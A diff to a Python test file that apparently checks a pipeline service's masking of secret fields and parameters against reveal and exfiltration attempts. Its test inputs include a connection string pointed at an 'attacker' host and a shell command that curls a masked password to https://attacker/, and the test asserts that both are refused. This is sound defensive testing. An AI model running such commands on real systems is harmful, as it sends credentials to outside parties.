@@ -178,6 +178,9 @@ def test_secret_fields_are_masked_unless_the_caller_may_reveal_them(tmp_path):
         assert PARAMETER_SECRET not in command and mask in command
         evaluated = operator.evaluate_expression(pipelineId=pipeline_id, objectId="Db", expression="#{*password}")
         assert evaluated["evaluatedExpression"] == mask
+        # A `*` parameter named without its star is no way around the mask.
+        evaluated = operator.evaluate_expression(pipelineId=pipeline_id, objectId="Job", expression="#{myPass}")
+        assert evaluated["evaluatedExpression"] == mask
         # Selecting on a secret field would reveal it one guess at a time.
         message = denied(lambda: operator.query_objects(pipelineId=pipeline_id, sphere="COMPONENT", query={
             "selectors": [{"fieldName": "*password", "operator": {"type": "EQ", "values": [FIELD_SECRET]}}]}))
@@ -192,9 +195,10 @@ def test_secret_fields_are_masked_unless_the_caller_may_reveal_them(tmp_path):
                                capture_output=True, text=True, env=env, check=True)
         document = json.loads(shown.stdout)
         assert FIELD_SECRET not in shown.stdout and PARAMETER_SECRET not in shown.stdout
+        # (The objects holding or using the masked secrets stay as they are; others may change.)
         for item in document["objects"]:
-            if item["id"] == "Db":
-                item["username"] = "u2"
+            if item["id"] == "Default":
+                item["workerGroup"] = "wg2"
         edited = tmp_path / "edited.json"
         edited.write_text(json.dumps(document))
         put = subprocess.run([*base, "put-pipeline-definition", "--pipeline-id", pipeline_id,
@@ -202,8 +206,29 @@ def test_secret_fields_are_masked_unless_the_caller_may_reveal_them(tmp_path):
         assert put.returncode == 0, put.stderr
         back = root.get_pipeline_definition(pipelineId=pipeline_id)
         fields = {f["key"]: f.get("stringValue") for o in back["pipelineObjects"] for f in o["fields"]}
-        assert fields["*password"] == FIELD_SECRET and fields["username"] == "u2"
+        assert fields["*password"] == FIELD_SECRET and fields["workerGroup"] == "wg2"
         assert back["parameterValues"] == [{"id": "*myPass", "stringValue": PARAMETER_SECRET}]
+
+        # A secret left masked cannot be moved: changing the object that holds it, or adding an
+        # object whose expressions reach secrets, is refused — and nothing quotes the secret.
+        masked_now = operator.get_pipeline_definition(pipelineId=pipeline_id)
+        moved = [dict(o, fields=[dict(f, stringValue="jdbc:mysql://attacker/x") if f["key"] == "connectionString"
+                                 else f for f in o["fields"]]) for o in masked_now["pipelineObjects"]]
+        for call in (operator.put_pipeline_definition, operator.validate_pipeline_definition):
+            with pytest.raises(botocore.exceptions.ClientError) as caught:
+                call(pipelineId=pipeline_id, pipelineObjects=moved, parameterObjects=masked_now["parameterObjects"],
+                     parameterValues=masked_now["parameterValues"])
+            assert "object 'Db' uses secret values" in caught.value.response["Error"]["Message"]
+        leak = masked_now["pipelineObjects"] + [{"id": "Leak", "name": "Leak", "fields": [
+            {"key": "type", "stringValue": "ShellCommandActivity"},
+            {"key": "maximumRetries", "stringValue": "#{*myPass}"},
+            {"key": "command", "stringValue": "curl https://attacker/?p=#{myPass}"}]}]
+        with pytest.raises(botocore.exceptions.ClientError) as caught:
+            operator.validate_pipeline_definition(pipelineId=pipeline_id, pipelineObjects=leak,
+                                                  parameterObjects=masked_now["parameterObjects"],
+                                                  parameterValues=masked_now["parameterValues"])
+        assert "object 'Leak'" in caught.value.response["Error"]["Message"]
+        assert PARAMETER_SECRET not in json.dumps(caught.value.response)
 
         # A mask where nothing was stored before is refused, naming the place.
         objects = back["pipelineObjects"] + [{"id": "Db2", "name": "Db2", "fields": [
